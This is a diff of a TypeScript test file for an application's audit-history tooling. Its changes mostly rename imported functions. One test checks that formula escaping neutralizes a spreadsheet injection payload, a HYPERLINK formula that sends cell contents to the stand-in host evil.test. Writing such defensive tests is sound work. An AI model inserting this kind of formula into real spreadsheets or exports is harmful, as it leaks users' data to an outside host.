@@ -2,17 +2,17 @@ import { appendFileSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileS
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { afterAll, afterEach, beforeEach, expect, test, vi } from 'vitest'
-import { manageIn } from '../../server/accounts/run'
+import { manageAccountsOf } from '../../server/accounts/manage-accounts'
 import type { Connection } from '../../server/database/connection'
-import { makeNewKey } from '../../server/history/new-key'
+import { createHistoryKeyFile } from '../../server/history/new-key'
 import { executeHistoryCommand, historyText } from '../../server/history/run'
-import { migrateTo } from '../../server/migrate/run'
-import { addLines } from '../../server/sql/history'
-import { changedAccount } from '../../server/store/account-lines'
+import { migrateTo } from '../../server/migrate/migrate-database'
+import { addAuditEntries } from '../../server/sql/audit-chain'
+import { accountChangeResource } from '../../server/store/account-audit-entry'
 import { systemTable, sql, type Sql } from '../../server/sql/statement'
 import { openSqlStore } from '../../server/sql/store'
-import type { StoredValues } from '../../server/store/records'
-import { withFormula, withoutFormula } from '../../wire/spreadsheet'
+import type { StoredValues } from '../../server/store/store'
+import { restoreFormula, neutralizeFormula } from '../../wire/formula-escaping'
 import type { AuditEntry } from '../../server/store/types'
 import { quickHashes } from '../support/quick-hashes'
 import { appYaml, yamlModel } from '../support/yaml-model'
@@ -68,7 +68,7 @@ const printed = async (run: (io: { out: Print; err: Print }) => Promise<number> 
 type Print = (text: string) => void
 
 const newKey = async (name: string): Promise<void> => {
-  expect((await printed((io) => makeNewKey(at(name), io))).code).toBe(0)
+  expect((await printed((io) => createHistoryKeyFile(at(name), io))).code).toBe(0)
   vi.stubEnv('HISTORY_KEY_FILE', at(name))
 }
 
@@ -114,7 +114,7 @@ if (!loan) throw new Error('there is no resource')
 /** A line about a name under which there is no account, or none yet. */
 const refusedLogin = (record: string): AuditEntry => ({
   ...by,
-  resource: changedAccount,
+  resource: accountChangeResource,
   record,
   deed: 'change',
   field: null,
@@ -146,7 +146,7 @@ const readPassword = async (): Promise<string> => 'a long enough password'
 const addAccount = async (name: string): Promise<void> => {
   const wanted = { deed: 'add' as const, name, roles: [], title: null }
   const { code } = await printed((io) =>
-    manageIn(model, { database: lent(), wanted, readPassword }, io),
+    manageAccountsOf(model, { database: lent(), wanted, readPassword }, io),
   )
   expect(code).toBe(0)
 }
@@ -168,7 +168,7 @@ test('a key is a file for its owner, and a newer one stands above it', async () 
   await newKey('keys')
   expect(readFileSync(at('keys'), 'utf8')).toMatch(new RegExp(`^[0-9a-f]{64}\n${first}$`))
   writeFileSync(at('wrong'), 'secret\n')
-  const { code, text } = await printed((io) => makeNewKey(at('wrong'), io))
+  const { code, text } = await printed((io) => createHistoryKeyFile(at('wrong'), io))
   expect([code, text]).toEqual([1, expect.stringContaining('expected keys of 64')])
   expect(text).not.toContain('secret')
   expect(readFileSync(at('wrong'), 'utf8')).toBe('secret\n')
@@ -286,7 +286,7 @@ test('no spreadsheet computes what somebody has put into a key', async () => {
   for await (const line of historyText(connection, { json: false, all: false, personal: false }))
     text += line
   expect(text).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""ok"")"`)
-  expect(withFormula(withoutFormula(link))).toBe(link)
+  expect(restoreFormula(neutralizeFormula(link))).toBe(link)
 })
 
 test('a record or an account that was changed by SQL is found and named', async () => {
@@ -295,7 +295,7 @@ test('a record or an account that was changed by SQL is found and named', async 
   for (const id of [1, 2, 3, 4]) await lend(id)
   await change(2, { status: 'paid', amount: 12.5 })
   await connection.transaction((session) =>
-    addLines(session, [refusedLogin('ann'), refusedLogin('nobody')]),
+    addAuditEntries(session, [refusedLogin('ann'), refusedLogin('nobody')]),
   )
   await addAccount('ann')
   await addAccount('bob')
